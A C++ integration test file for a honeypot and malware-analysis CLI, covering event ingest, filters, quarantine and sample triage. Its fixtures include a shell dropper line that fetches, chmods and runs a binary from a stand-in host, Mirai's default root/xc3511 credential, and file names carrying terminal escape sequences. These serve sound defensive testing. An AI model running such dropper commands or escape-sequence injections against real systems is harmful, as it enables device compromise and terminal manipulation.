// Drives the mitsu binary as an operator would: real files, stdin, signals, exit codes.

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <fstream>
#include <sstream>
#include <thread>

#include "analysis/static/hashes.h"
#include "artifacts/artifact_store.h"
#include "core/safe_text.h"
#include "testing/sample_fixtures.h"
#include "testing/subprocess.h"
#include "testing/temp_dir.h"

namespace mitsu {
namespace {

using testing::ProcessResult;
using testing::run_process;

const std::string kExamples = std::string(MITSU_SOURCE_DIR) + "/docs/examples/events.jsonl";

std::string read_text(const std::string& path) {
  std::ifstream in(path);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

int count_lines(const std::string& text) {
  return static_cast<int>(std::count(text.begin(), text.end(), '\n'));
}

class CliTest : public ::testing::Test {
 protected:
  ProcessResult mitsu(std::vector<std::string> args, const std::string& stdin_text = "") {
    args.insert(args.begin(), {MITSU_EXE, "--data-dir", data_.path().string()});
    return run_process(args, stdin_text);
  }

  testing::TempDir data_{
      "cli-test-" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name())};
};

TEST_F(CliTest, VersionNamesFormats) {
  ProcessResult r = mitsu({"version"});
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_NE(r.out.find("event schema 1"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("spool format 1"), std::string::npos);
}

TEST_F(CliTest, HelpListsEveryCommand) {
  ProcessResult r = run_process({MITSU_EXE, "--help"});
  EXPECT_EQ(r.exit_code, 0);
  // Each command as the subcommand list shows it: the name at the start of its line.
  for (const char* command :
       {"run", "ingest", "events", "sample", "session", "sensors", "quarantine", "version"}) {
    EXPECT_NE(r.out.find("\n  " + std::string(command) + " "), std::string::npos) << command;
  }
  EXPECT_NE(r.out.find("Exit status"), std::string::npos);
}

TEST_F(CliTest, UsageErrorsExitTwo) {
  EXPECT_EQ(run_process({MITSU_EXE}).exit_code, 2);
  EXPECT_EQ(run_process({MITSU_EXE, "frobnicate"}).exit_code, 2);
  ProcessResult r = mitsu({"events", "--since", "last tuesday"});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("--since"), std::string::npos) << r.err;
}

TEST_F(CliTest, QueryingAnEmptyDataDirectorySaysSo) {
  // A mistyped --data-dir: every reading command says so and none leaves an empty store there.
  for (std::vector<std::string> args : std::vector<std::vector<std::string>>{
           {"events"}, {"stats"}, {"report"}, {"rollups", "rebuild"}, {"reanalyze"}}) {
    ProcessResult r = mitsu(args);
    EXPECT_EQ(r.exit_code, 1) << args[0];
    EXPECT_NE(r.err.find("no store at"), std::string::npos) << args[0] << ": " << r.err;
    EXPECT_FALSE(std::filesystem::exists(data_ / "mitsu.db")) << args[0];
  }
}

TEST_F(CliTest, IngestThenQuery) {
  ProcessResult ingest = mitsu({"ingest", kExamples});
  ASSERT_EQ(ingest.exit_code, 0) << ingest.err;
  EXPECT_NE(ingest.err.find("8 accepted, 0 rejected; stored 8 new events"), std::string::npos)
      << ingest.err;

  ProcessResult all = mitsu({"events", "--json"});
  ASSERT_EQ(all.exit_code, 0) << all.err;
  EXPECT_EQ(count_lines(all.out), 8);

  ProcessResult logins = mitsu({"events", "--kind", "login.attempt"});
  ASSERT_EQ(logins.exit_code, 0);
  EXPECT_NE(logins.out.find("user=\"root\" password=\"xc3511\" success"), std::string::npos)
      << logins.out;
  EXPECT_NE(logins.out.find("203.0.113.45:51234 -> telnet/23"), std::string::npos);

  ProcessResult window = mitsu(
      {"events", "--json", "--since", "2026-11-01T00:00:01", "--until", "2026-11-01T00:00:03"});
  EXPECT_EQ(count_lines(window.out), 3) << window.out;  // command, exploit, download

  ProcessResult by_ip = mitsu({"events", "--json", "--src-ip", "203.0.113.45", "-n", "3"});
  EXPECT_EQ(count_lines(by_ip.out), 3);

  // Global options after the subcommand work as before it.
  ProcessResult after = run_process(
      {MITSU_EXE, "events", "--json", "-d", data_.path().string(), "--log-level", "warn"});
  ASSERT_EQ(after.exit_code, 0) << after.err;
  EXPECT_EQ(count_lines(after.out), 8);
}

// Filter values that cannot match are said to be so; RFC 3339 offsets work as the help says.
TEST_F(CliTest, EventFiltersThatCannotMatchAreUsageErrors) {
  ASSERT_EQ(mitsu({"ingest", kExamples}).exit_code, 0);
  ProcessResult kind = mitsu({"events", "--kind", "bogus"});
  EXPECT_EQ(kind.exit_code, 2);
  EXPECT_NE(kind.err.find("no event kind is called 'bogus'"), std::string::npos) << kind.err;
  EXPECT_NE(kind.err.find("login.attempt"), std::string::npos) << "lists the kinds";
  ProcessResult protocol = mitsu({"events", "--protocol", "TELNET"});
  EXPECT_EQ(protocol.exit_code, 2);
  EXPECT_NE(protocol.err.find("no protocol is called 'TELNET'"), std::string::npos) << protocol.err;
  ProcessResult reversed =
      mitsu({"events", "--since", "2026-11-02", "--until", "2026-11-01T00:00:03"});
  EXPECT_EQ(reversed.exit_code, 2);
  EXPECT_NE(reversed.err.find("is not before --until"), std::string::npos) << reversed.err;

  ProcessResult tokyo = mitsu({"events", "--json", "--since", "2026-11-01T09:00:01+09:00",
                               "--until", "2026-11-01T09:00:03+09:00"});
  ASSERT_EQ(tokyo.exit_code, 0) << tokyo.err;
  EXPECT_EQ(count_lines(tokyo.out), 3) << "the same window as 00:00:01Z-00:00:03Z";
}

// Text lines say what each kind is about: a web request's method, path and client, an SSDP
// probe's search target, why a download failed (issue 22).
TEST_F(CliTest, EventLinesShowWhatEachKindIsAbout) {
  auto session = [](const std::string& more_mitsu) {
    return R"("mitsu":{"schema":1,"session":{"id":"01a19467-e800-752e-89a7-834df2a74de4"},)"
           R"("persona":{"device_type":"camera","vendor":"Acme","model":"IPC-2000"})" +
           more_mitsu +
           R"(},"observer":{"name":"sensor-tokyo-1","geo":{"name":"tokyo"}},)"
           R"("source":{"ip":"203.0.113.45","port":51234},)";
  };
  std::string lines =
      R"({"@timestamp":"2026-11-01T00:00:03.000000Z","event":{"id":"01a19467-f5e8-7001-8001-000000000001","action":"http.request"},)" +
      session("") +
      R"("network":{"protocol":"http","transport":"tcp"},"destination":{"port":80},)"
      R"("http":{"request":{"method":"POST"}},"url":{"path":"/cgi-bin/luci","query":"a=1"},)"
      R"("user_agent":{"original":"Hello, World"}})"
      "\n"
      R"({"@timestamp":"2026-11-01T00:00:04.000000Z","event":{"id":"01a19467-f9d0-7001-8001-000000000002","action":"ssdp.request"},)" +
      session(R"(,"ssdp":{"st":"ssdp:all","man":"\"ssdp:discover\"","request_bytes":90,)"
              R"("replies":2,"reply_bytes":600})") +
      R"("network":{"protocol":"ssdp","transport":"udp"},"destination":{"port":1900},)"
      R"("http":{"request":{"method":"M-SEARCH"}}})"
      "\n"
      R"({"@timestamp":"2026-11-01T00:00:05.000000Z","event":{"id":"01a19467-fdb8-7001-8001-000000000003","action":"file.download","outcome":"failure"},)" +
      session("") +
      R"("network":{"protocol":"telnet","transport":"tcp"},"destination":{"port":23},)"
      R"("url":{"full":"http://192.0.2.7/x.arm"},"error":{"message":"connection refused"}})"
      "\n";
  ProcessResult ingest = mitsu({"ingest", "-"}, lines);
  ASSERT_EQ(ingest.exit_code, 0) << ingest.err;
  ProcessResult r = mitsu({"events"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find(R"(POST /cgi-bin/luci a=1 "Hello, World")"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find(R"(M-SEARCH ssdp:all "ssdp:discover" replies=2)"), std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find(R"(http://192.0.2.7/x.arm failure "connection refused")"), std::string::npos)
      << r.out;
}

TEST_F(CliTest, IngestingTwiceStoresOnce) {
  ASSERT_EQ(mitsu({"ingest", kExamples}).exit_code, 0);
  ProcessResult again = mitsu({"ingest", kExamples});
  ASSERT_EQ(again.exit_code, 0) << again.err;
  EXPECT_NE(again.err.find("stored 0 new events, 8 duplicates"), std::string::npos) << again.err;
  EXPECT_EQ(count_lines(mitsu({"events", "--json"}).out), 8);
}

TEST_F(CliTest, BadLinesAreReportedWithLineNumbersAndTheRestIsStored) {
  std::string input = read_text(kExamples);
  std::string mixed = "{\"truncated\": \n" + input + "[1,2]\n";
  ProcessResult r = mitsu({"ingest", "-"}, mixed);
  EXPECT_EQ(r.exit_code, 3);
  EXPECT_NE(r.err.find("<stdin>:1: rejected: malformed_json"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("<stdin>:10: rejected: not_an_object"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("8 accepted, 2 rejected"), std::string::npos) << r.err;
  EXPECT_EQ(count_lines(mitsu({"events", "--json"}).out), 8);
}

TEST_F(CliTest, ConfigErrorsNameFileLineAndKey) {
  std::string config = (data_ / "bad.toml").string();
  std::ofstream(config) << "[spool]\nfsync = \"sometimes\"\n";
  ProcessResult r = mitsu({"--config", config, "events"});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find(config + ":2:9: spool.fsync"), std::string::npos) << r.err;
}

TEST_F(CliTest, RunDeliversTheSpoolAndStopsCleanlyOnSigterm) {
  // After an ingest the spool is delivered: `run --once` finds nothing left to do.
  ASSERT_EQ(mitsu({"ingest", kExamples}).exit_code, 0);
  ProcessResult once = mitsu({"run", "--once"});
  EXPECT_EQ(once.exit_code, 0) << once.err;
  EXPECT_NE(once.err.find("0 events read"), std::string::npos) << once.err;

  // The sensor is tested on its own (sensor_integration_test); here it stays off, so this test
  // binds no ports.
  std::string config = (data_ / "no-sensor.toml").string();
  std::ofstream(config) << "[sensor]\nenabled = false\n[api]\nport = 0\n";
  testing::ChildProcess run(
      {MITSU_EXE, "--config", config, "--data-dir", data_.path().string(), "run"});
  // Wait until run holds the spool (its pid is in the lock file), then a second writer is
  // refused with a clear reason.
  std::string lock = (data_ / "spool/lock").string();
  for (int i = 0; i < 1200 && read_text(lock) != std::to_string(run.pid()) + "\n"; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(25));
  }
  ASSERT_EQ(read_text(lock), std::to_string(run.pid()) + "\n");
  ProcessResult refused = mitsu({"ingest", kExamples});
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_NE(refused.err.find("in use by another process (pid " + std::to_string(run.pid())),
            std::string::npos)
      << refused.err;
  // Queries do not need the spool.
  EXPECT_EQ(count_lines(mitsu({"events", "--json"}).out), 8);

  run.send_signal(SIGTERM);
  ProcessResult stopped = run.wait();
  EXPECT_EQ(stopped.exit_code, 0) << stopped.err;
  EXPECT_NE(stopped.err.find("stopping"), std::string::npos) << stopped.err;
}

std::string write_bytes(const std::filesystem::path& path, const std::vector<std::byte>& bytes) {
  std::ofstream(path, std::ios::binary)
      .write(reinterpret_cast<const char*>(bytes.data()),
             static_cast<std::streamsize>(bytes.size()));
  return path.string();
}

std::vector<std::byte> mirai_like() {
  return testing::fake_elf(
      {}, testing::string_table(
              {"/dev/watchdog", "/proc/net/tcp", "/bin/busybox", "root", "xc3511"}, 0x22));
}

TEST_F(CliTest, AnalyzeTriagesFilesAndDirectories) {
  std::filesystem::path samples = data_ / "samples";
  std::filesystem::create_directories(samples);
  write_bytes(samples / "bot.arm", mirai_like());
  std::ofstream(samples / "bins.sh")
      << "#!/bin/sh\ncd /tmp\n"
         "wget http://192.0.2.7/x.arm; chmod 777 x.arm; ./x.arm\n"
         "wget http://192.0.2.7/x.mips; chmod 777 x.mips; ./x.mips\n";
  ProcessResult table = mitsu({"analyze", samples.string(), "/usr/bin/busybox"});
  ASSERT_EQ(table.exit_code, 0) << table.err;
  EXPECT_NE(table.out.find("Mirai (80)"), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("ShellDropper"), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("unclassified"), std::string::npos) << "busybox is clean";
  EXPECT_NE(table.err.find("3 files analysed, 0 failed"), std::string::npos) << table.err;

  ProcessResult json = mitsu({"analyze", "--json", samples.string()});
  ASSERT_EQ(json.exit_code, 0);
  ASSERT_EQ(count_lines(json.out), 2);
  EXPECT_NE(json.out.find("\"arch\":\"arm\""), std::string::npos);

  std::string watchlist = (data_ / "acme.toml").string();
  std::ofstream(watchlist) << "vendor = \"Acme\"\ndefault_credentials = [[\"root\", \"xc3511\"]]\n";
  ProcessResult watched = mitsu({"analyze", "--watchlist", watchlist, samples.string()});
  EXPECT_NE(watched.out.find("[TARGETS OUR PRODUCTS: root/xc3511]"), std::string::npos)
      << watched.out;

  ProcessResult missing = mitsu({"analyze", "/nonexistent/sample"});
  EXPECT_EQ(missing.exit_code, 1);
  EXPECT_NE(missing.err.find("no such file"), std::string::npos);
}

// A sample directory as it arrives: a symlink loop, a dangling link, a FIFO. The files get their
// verdicts, every other entry is named with the reason, and nothing aborts (issue 22).
TEST_F(CliTest, AnalyzeSaysWhyItSkipsEntriesAndNeverAborts) {
  std::filesystem::path samples = data_ / "odd";
  std::filesystem::create_directories(samples);
  write_bytes(samples / "bot.arm", mirai_like());
  std::filesystem::create_symlink(samples / "loop-b", samples / "loop-a");
  std::filesystem::create_symlink(samples / "loop-a", samples / "loop-b");
  std::filesystem::create_symlink(samples / "gone", samples / "dangling");
  ASSERT_EQ(::mkfifo((samples / "pipe").c_str(), 0600), 0);
  ProcessResult r = mitsu({"analyze", samples.string()});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("Mirai"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("loop-a: skipped: symbolic link loop"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("dangling: skipped: dangling symbolic link"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("pipe: skipped: FIFO, not a regular file"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("1 files analysed, 0 failed"), std::string::npos) << r.err;

  ProcessResult given = mitsu({"analyze", "/dev/null", (samples / "loop-a").string()});
  EXPECT_EQ(given.exit_code, 1);
  EXPECT_NE(given.err.find("/dev/null: character device, not a regular file"), std::string::npos)
      << given.err;
  EXPECT_NE(given.err.find("loop-a: symbolic link loop"), std::string::npos) << given.err;
}

// `ingest DIR` reads every events file under it; rejected lines land in the quarantine table.
TEST_F(CliTest, IngestReadsADirectoryAndQuarantinesRejectedLines) {
  std::filesystem::path in = data_ / "incoming";
  std::filesystem::create_directories(in / "day2");
  std::string events = read_text(kExamples);
  std::size_t half = events.find('\n', events.size() / 2) + 1;
  std::ofstream(in / "day1.jsonl") << events.substr(0, half) << "{\"truncated\": \n";
  std::ofstream(in / "day2" / "rest.jsonl") << events.substr(half) << "[1,2]\n";
  ProcessResult r = mitsu({"ingest", in.string()});
  EXPECT_EQ(r.exit_code, 3) << r.err;
  EXPECT_NE(r.err.find("day1.jsonl:" + std::to_string(count_lines(events.substr(0, half)) + 1) +
                       ": rejected: malformed_json"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("in 2 files, 8 accepted, 2 rejected; stored 8 new events"),
            std::string::npos)
      << r.err;
  EXPECT_EQ(count_lines(mitsu({"events", "--json"}).out), 8);
  ProcessResult quarantined = run_process({"sqlite3", "-readonly", (data_ / "mitsu.db").string(),
                                           "SELECT reason FROM rejected_events ORDER BY 1"});
  ASSERT_EQ(quarantined.exit_code, 0) << quarantined.err;
  EXPECT_EQ(count_lines(quarantined.out), 2) << quarantined.out;
  // ...and `mitsu quarantine` shows them, newest first, with the reason and the bytes.
  ProcessResult listed = mitsu({"quarantine"});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  ASSERT_NE(listed.out.find("[1,2]"), std::string::npos) << listed.out;
  ASSERT_NE(listed.out.find("{\"truncated\": "), std::string::npos) << listed.out;
  EXPECT_LT(listed.out.find("[1,2]"), listed.out.find("{\"truncated\": ")) << listed.out;
  EXPECT_NE(listed.out.find("malformed_json"), std::string::npos) << listed.out;
  EXPECT_NE(listed.err.find("2 of 2 quarantined records"), std::string::npos) << listed.err;
  ProcessResult as_json = mitsu({"quarantine", "--json", "-n", "1"});
  EXPECT_NE(as_json.out.find("\"total\": 2"), std::string::npos) << as_json.out;
  EXPECT_NE(as_json.out.find("\"raw\": \"[1,2]\""), std::string::npos) << as_json.out;

  ProcessResult again = mitsu({"ingest", in.string()});
  EXPECT_EQ(again.exit_code, 3);
  quarantined = run_process({"sqlite3", "-readonly", (data_ / "mitsu.db").string(),
                             "SELECT count(*) FROM rejected_events"});
  EXPECT_EQ(quarantined.out, "2\n") << "the same bad lines are quarantined once";
}

// File names, section names and rule metadata are attacker or third-party bytes: the table and
// the log show them escaped, and --json carries them as valid UTF-8 with the exact bytes kept.
TEST_F(CliTest, AnalyzeNeverPrintsControlSequencesOrInvalidUtf8) {
  std::filesystem::path samples = data_ / "samples";
  std::filesystem::create_directories(samples);
  // A real libdl.so.2 (i686) with bytes changed, one in the section name table.
  std::string damaged = read_text(std::string(MITSU_SOURCE_DIR) +
                                  "/fuzz/corpus/static_analyzer/"
                                  "crash-utf8-00034-i686-linux-gnu_libdl.so.2");
  ASSERT_FALSE(damaged.empty());
  const std::string title =
      "bot\x1b]0;owned\x07\xc2\x9b"
      "2J.arm";  // OSC, then C1 CSI
  const std::string invalid = "\xff\xfe.mips";
  std::ofstream(samples / title, std::ios::binary) << damaged;
  std::ofstream(samples / invalid, std::ios::binary) << damaged;
  std::filesystem::create_directories(data_ / "rules");
  std::ofstream(data_ / "rules" / "evil.yar")
      << "rule Evil { meta: family = \"Evil\\x1b[2J\\xff\" confidence = 90 condition: true }\n";
  std::string rules = (data_ / "rules").string();

  auto terminal_clean = [](const std::string& text) {
    for (std::size_t i = 0; i < text.size(); ++i) {
      auto c = static_cast<unsigned char>(text[i]);
      if ((c < 0x20 && c != '\n') || c == 0x7f ||
          (c == 0xc2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) < 0xa0)) {
        return false;
      }
    }
    return is_valid_utf8(text);
  };
  ProcessResult table = mitsu({"analyze", "--cluster", "--rules", rules, samples.string()});
  ASSERT_EQ(table.exit_code, 0) << table.err;
  EXPECT_TRUE(terminal_clean(table.out)) << table.out;
  EXPECT_TRUE(terminal_clean(table.err)) << table.err;
  EXPECT_NE(table.out.find("bot\\e]0;owned\\x07\\u{009b}2J.arm"), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("\\xff\\xfe.mips"), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("Evil\\e[2J\\xff (90)"), std::string::npos) << table.out;
  EXPECT_NE(table.err.find("families: Evil\\e[2J\\xff 2"), std::string::npos) << table.err;

  ProcessResult json = mitsu({"analyze", "--json", "--rules", rules, samples.string()});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  ASSERT_EQ(count_lines(json.out), 2);
  EXPECT_TRUE(is_valid_utf8(json.out));
  std::istringstream lines(json.out);
  for (std::string line; std::getline(lines, line);) {
    nlohmann::json verdict = nlohmann::json::parse(line);
    EXPECT_EQ(verdict["family"]["name"], "Evil\x1b[2J\\xff");
    std::string family, path;
    ASSERT_TRUE(base64_decode(verdict["raw_bytes"]["/family/name"].get<std::string>(), family));
    EXPECT_EQ(family, "Evil\x1b[2J\xff");
    std::string shown = verdict["path"].get<std::string>();
    if (shown.ends_with(".mips")) {
      ASSERT_TRUE(base64_decode(verdict["raw_bytes"]["/path"].get<std::string>(), path));
      EXPECT_EQ(path, (samples / invalid).string());
    } else {
      EXPECT_EQ(shown, (samples / title).string()) << "valid UTF-8 is kept as it is";
    }
  }
}

TEST_F(CliTest, ImportedHashesShowAsKnown) {
  std::string sample = write_bytes(data_ / "bot.arm", mirai_like());
  ASSERT_EQ(mitsu({"ingest", kExamples}).exit_code, 0);  // creates the store
  ProcessResult before = mitsu({"analyze", sample});
  EXPECT_NE(before.out.find("  no  "), std::string::npos) << before.out;
  std::string md5 = analysis::compute_hashes(mirai_like()).md5;
  std::ofstream(data_ / "feed.txt") << "# feed\n" << md5 << "\nnot-a-hash\n";
  ProcessResult imported = mitsu({"known", "import", (data_ / "feed.txt").string()});
  EXPECT_EQ(imported.exit_code, 3) << "one line was skipped";
  EXPECT_NE(imported.err.find("hash-list, 1 hashes (1 new), 1 lines skipped"), std::string::npos)
      << imported.err;
  ProcessResult after = mitsu({"analyze", sample});
  EXPECT_NE(after.out.find("  yes  "), std::string::npos) << after.out;
  ProcessResult sources = mitsu({"known", "list"});
  ASSERT_EQ(sources.exit_code, 0) << sources.err;
  EXPECT_NE(sources.out.find("feed.txt"), std::string::npos) << sources.out;
  EXPECT_NE(sources.err.find("1 sources, 1 hashes"), std::string::npos) << sources.err;
  EXPECT_NE(mitsu({"known", "list", "--json"}).out.find("\"source\": \"feed.txt\""),
            std::string::npos);

  // Real files that are not hash lists, given by mistake: one error each, nothing imported.
  for (const char* wrong : {"/etc/services", "/usr/bin/busybox"}) {
    ProcessResult r = mitsu({"known", "import", wrong});
    EXPECT_EQ(r.exit_code, 1) << wrong;
    EXPECT_NE(r.err.find(std::string(wrong) + ": not a hash list"), std::string::npos) << r.err;
    EXPECT_EQ(count_lines(r.err), 1) << r.err;
  }
}

TEST_F(CliTest, CapturedSamplesAreAnalysedByRunAndAgainByReanalyze) {
  auto bytes = mirai_like();
  std::string sha256;
  {
    auto store = artifacts::ArtifactStore::open({data_ / "artifacts"});
    ASSERT_TRUE(store.ok());
    auto put = (*store)->put(bytes);
    ASSERT_TRUE(put.ok());
    sha256 = put->info.sha256;
  }
  std::string events = read_text(kExamples);
  // The examples' download names another hash: point it at the stored sample.
  std::string example_hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
  events.replace(events.find(example_hash), example_hash.size(), sha256);
  ASSERT_EQ(mitsu({"ingest", "-"}, events).exit_code, 0);
  ProcessResult run = mitsu({"run", "--once"});
  ASSERT_EQ(run.exit_code, 0) << run.err;
  // Two samples were delivered (download and upload); only one is in the artifact store.
  EXPECT_NE(run.err.find("1 samples analysed, 1 failed"), std::string::npos) << run.err;
  ProcessResult again = mitsu({"reanalyze", "--progress"});
  EXPECT_EQ(again.exit_code, 1) << "a failed sample is a failure: " << again.err;
  EXPECT_NE(again.err.find("re-analysed 1 samples, 1 failed"), std::string::npos) << again.err;
  EXPECT_NE(again.err.find("reanalyze: 2 of 2 samples (100%)"), std::string::npos) << again.err;
  // ...and it says which sample and why, without sqlite3 (issue 22).
  EXPECT_NE(again.err.find(": static failed: sample not in the artifact store"), std::string::npos)
      << again.err;
  EXPECT_NE(again.err.find("  1 failed: sample not in the artifact store"), std::string::npos)
      << again.err;
}

}  // namespace
}  // namespace mitsu
